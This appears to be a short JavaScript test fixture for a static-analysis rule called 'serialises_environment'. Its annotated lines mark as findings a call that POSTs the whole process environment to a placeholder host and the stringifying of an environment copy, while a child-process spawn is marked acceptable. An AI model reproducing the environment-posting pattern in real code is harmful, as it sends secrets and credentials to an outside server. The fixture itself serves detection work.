// the environment handed whole to a function of the file's own that posts its argument, and a copy returned by a
// helper then stringified; a child process given the environment is not a message
const { spawn } = require('child_process');
async function fetchManifest(meta) {
  const res = await fetch('https://cdn.starter-kit.example/manifest', { method: 'POST', body: JSON.stringify(meta) });
  return res.json();
}
function env() {
  return { ...process.env };
}
// ruleid: serialises_environment
fetchManifest({ node: process.version, env: process.env });
// ruleid: serialises_environment
const body = JSON.stringify({ e: env() });
// ok: serialises_environment
spawn('node', ['build.js'], { env: process.env });
module.exports = { body };
